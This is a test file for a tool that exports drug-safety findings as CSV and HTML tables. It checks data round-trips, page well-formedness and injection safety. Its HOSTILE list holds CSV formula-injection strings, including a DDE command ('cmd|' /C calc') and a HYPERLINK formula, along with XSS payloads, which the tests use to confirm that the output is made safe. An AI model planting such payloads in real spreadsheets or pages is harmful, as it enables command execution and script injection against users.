"""Tables as files: CSV that reads back to the findings, pages that are well formed, nothing that runs."""

from __future__ import annotations

import copy
import csv
import io
import json
from collections.abc import Callable
from html.parser import HTMLParser
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phytovigil.dossier.tables import Column, Table, make_tables, table_files
from phytovigil.dossier.tables.comma_separated import CONTROL, FORMULA, write_csv
from phytovigil.dossier.tables.word_page import write_page

VOID = {"meta", "br"}
ALLOWED = {
    "html",
    "head",
    "meta",
    "title",
    "body",
    "p",
    "b",
    "small",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "br",
}
ATTRIBUTES = {"lang", "charset", "border", "cellspacing", "cellpadding", "style", "scope", "align", "valign", "nowrap"}

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    'a "quoted", comma\nand a new line',
    "nul \x00 and escape \x1b",
    "KRATOM™ é 漢字",
)


@pytest.fixture(scope="module")
def wide(load_example: Callable[[str], ModuleType]) -> dict[str, Any]:
    """Findings with every section that a study may ask for."""
    reporting, claims = load_example("checklist"), load_example("claims")
    return {
        **load_example("findings").build_findings(),
        "checklist": reporting.build_checklist(),
        "methods_text": reporting.build_methods_text(),
        "citations": reporting.build_citations(),
        "specification_curve": [load_example("specification_curve").build_specification_curve(years=3)],
        "case_series": load_example("case_series").build_case_series(),
        "claims": claims.build_claims(),
        "benefit_risk": claims.build_benefit_risk(),
        "evidence": build_evidence(),
    }


def build_evidence() -> dict[str, Any]:
    """One row of law and one survey, as the findings hold them."""
    citation = {"reference": "Somebody 2020. A survey.", "address": "https://doi.org/10.1000/x"}
    row = {
        "id": "survey",
        "title": "A survey",
        "finding": "41 % said so.",
        "population": "people who take it",
        "n": 2798,
        "figures": [{"label": "use", "text": "41 % (1,144 of 2,798)"}],
        "limits": ["Self-selected."],
        "as_of": "2026-11-22",
        "standing": "context",
        "citation": citation,
        "law": None,
    }
    law = {**row, "title": "A law", "n": None, "figures": [], "law": {"jurisdiction": "Nowhere", "status": "unknown"}}
    tables = [
        {"kind": "survey", "title": "Surveys", "rows": [row]},
        {"kind": "law", "title": "Law", "rows": [law]},
    ]
    return {"title": "Examplewort", "version": "2026-11-22", "tables": tables}


def read_back(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class Checker(HTMLParser):
    """Notes elements that are opened and not closed, and everything that a page of a table must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text: list[str] = []
        self.rows = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        assert {name for name, _ in attrs} <= ATTRIBUTES, attrs
        self.rows += tag == "tr"
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check_page(content: bytes) -> Checker:
    checker = Checker()
    checker.feed(content.decode("utf-8"))
    checker.close()
    assert checker.open == []
    return checker


def test_every_table_has_rows_a_caption_and_a_name_of_its_own(wide: dict[str, Any]) -> None:
    tables = make_tables(wide)
    stems = [table.stem for table in tables]
    assert len(set(stems)) == len(stems)
    assert all(table.rows and table.caption and table.columns for table in tables)
    asked = (
        "main sensitivity comparators controls numerators flow releases duplicates names names-likely names-refused "
    )
    asked += (
        "reactions terms profiles quarantine cases specification-choices controls-able calibrated nulls case-series "
    )
    asked += "case-series-cases claims subgroups effects evidence-survey evidence-law checklist references"
    assert set(asked.split()) <= set(stems)
    assert any(stem.startswith("specifications-") for stem in stems)


def test_a_section_that_there_is_not_leaves_no_file(wide: dict[str, Any]) -> None:
    asked = ("specification_curve", "case_series", "evidence", "claims", "benefit_risk")
    left_out = (*asked, "citations", "methods_text", "checklist")
    plain = {key: value for key, value in wide.items() if key not in left_out}
    assert not any("checklist" in name or "methods" in name or "evidence" in name for name in table_files(plain))
    assert "tables/methods.txt" in table_files(wide)
    assert table_files({**plain, "evidence": None, "claims": None, "benefit_risk": None, "specification_curve": []})


def test_numbers_of_the_csv_are_those_of_the_findings(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    rows = read_back(files["tables/main.csv"])
    pairs = [pair for source in wide["sources"] if source["complete"] for pair in source["pairs"]]
    pairs = [pair for pair in pairs if pair["part"] in ("main", "scope")]
    assert len(rows) == len(pairs)
    for row, pair in zip(rows, pairs, strict=True):
        assert [int(row[name]) for name in ("a", "b", "c", "d", "N")] == [
            pair[name] for name in ("a", "b", "c", "d", "n")
        ]
        assert float(row["Expected"]) == pair["expected"]
        for measure in wide["measures"]:
            for end in ("point", "low", "high"):
                value = pair["estimates"][measure["name"]][end]
                assert row[f"{measure['title']}, {end}"] == ("" if value is None else repr(value))


def test_every_pair_of_the_page_stands_in_one_table(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    rows = sum(
        len(read_back(files[f"tables/{stem}.csv"]))
        for stem in ("main", "sensitivity", "comparators", "controls", "numerators")
    )
    assert rows == sum(len(source["pairs"]) for source in wide["sources"])


def test_every_case_and_name_stands_in_its_table(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    for stem, key in (("cases", "case_list"), ("names", "names"), ("names-refused", "refused"), ("flow", "flow")):
        assert len(read_back(files[f"tables/{stem}.csv"])) == sum(len(source[key]) for source in wide["sources"]), stem


def test_a_csv_begins_with_a_mark_and_ends_lines_as_the_standard_says(wide: dict[str, Any]) -> None:
    for name, content in table_files(wide).items():
        if name.endswith(".csv"):
            assert content.startswith(b"\xef\xbb\xbf"), name
            assert content.endswith(b"\r\n"), name
            assert not any(row.get(None) for row in read_back(content)), name  # type: ignore[call-overload]


def test_pages_are_well_formed_and_hold_every_row(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    for table in make_tables(wide):
        assert check_page(files[f"tables/{table.stem}.html"]).rows == len(table.rows) + 1, table.stem
    check_page(files["tables/methods.html"])


def test_a_page_rounds_as_the_dossier_does(wide: dict[str, Any]) -> None:
    page = table_files(wide)["tables/main.html"].decode()
    assert "18.4<br>[6.47–52.5]" in page
    assert "64,003" in page
    assert ">0.25<" in page


def test_a_column_for_the_csv_alone_is_not_printed(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    assert "Why" in files["tables/main.csv"].decode().splitlines()[0]
    assert "Why" not in files["tables/main.html"].decode()
    assert "Selection" in files["tables/sensitivity.html"].decode()


def test_a_very_long_table_comes_as_csv_only(wide: dict[str, Any]) -> None:
    long = copy.deepcopy(wide)
    source = long["sources"][1]
    source["case_list"] = source["case_list"] * 40
    files = table_files(long)
    assert "tables/cases.csv" in files
    assert "tables/cases.html" not in files


def test_methods_and_references_are_files_too(wide: dict[str, Any]) -> None:
    files = table_files(wide)
    text = files["tables/methods.txt"].decode()
    assert "We analysed reports in DEMO [1]." in text
    assert "2. Evans SJW" in text
    assert files["tables/references.bib"].decode().count("@") == len(wide["citations"])


def test_the_same_findings_give_the_same_bytes(wide: dict[str, Any]) -> None:
    again = json.loads(json.dumps(wide))
    assert table_files(wide) == table_files(again)


# Nothing of a file may run, whatever the raw files held.


def make_table(texts: list[str]) -> Table:
    return Table(
        "t",
        "Caption",
        [Column("Name", "name"), Column("Cases", "cases", number=True)],
        [{"name": text, "cases": -1.5} for text in texts],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_from_a_raw_file_runs_nowhere(text: str) -> None:
    (row,) = read_back(write_csv(make_table([text])))
    assert not FORMULA.match(row["Name"])
    assert row["Cases"] == "-1.5", "a number is no text"
    said = "".join(check_page(write_page(make_table([text]))).text)
    assert CONTROL.sub("\ufffd", text).replace("\r", "").split("\n")[0].strip() in said


def test_hostile_names_in_findings_are_made_safe_in_every_file(wide: dict[str, Any]) -> None:
    hostile = copy.deepcopy(wide)
    for source in hostile["sources"]:
        for number, text in enumerate(HOSTILE):
            source["names"].append({**source["names"][0], "name": text})
            source["case_list"][number]["terms"].append({"term": text, "reactions": []})
            source["case_list"][number]["case_id"] = text
            source["quarantine"]["reasons"].append({**source["quarantine"]["reasons"][0], "reason": text})
    for name, content in table_files(hostile).items():
        if name.endswith(".html"):
            check_page(content)
        elif name.endswith(".csv"):
            cells = [cell for row in read_back(content) for cell in row.values() if cell]
            assert not [cell for cell in cells if FORMULA.match(cell) and not is_number(cell)], name


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_text_reads_back_but_for_the_apostrophe(texts: list[str]) -> None:
    rows = read_back(write_csv(make_table(texts)))
    for row, text in zip(rows, texts, strict=True):
        plain = CONTROL.sub("\ufffd", text)
        assert row["Name"] == (f"'{plain}" if FORMULA.match(plain) else plain)


@given(st.text(max_size=60))
def test_any_text_makes_a_well_formed_page(text: str) -> None:
    assert check_page(write_page(make_table([text, "second"]))).rows == 3
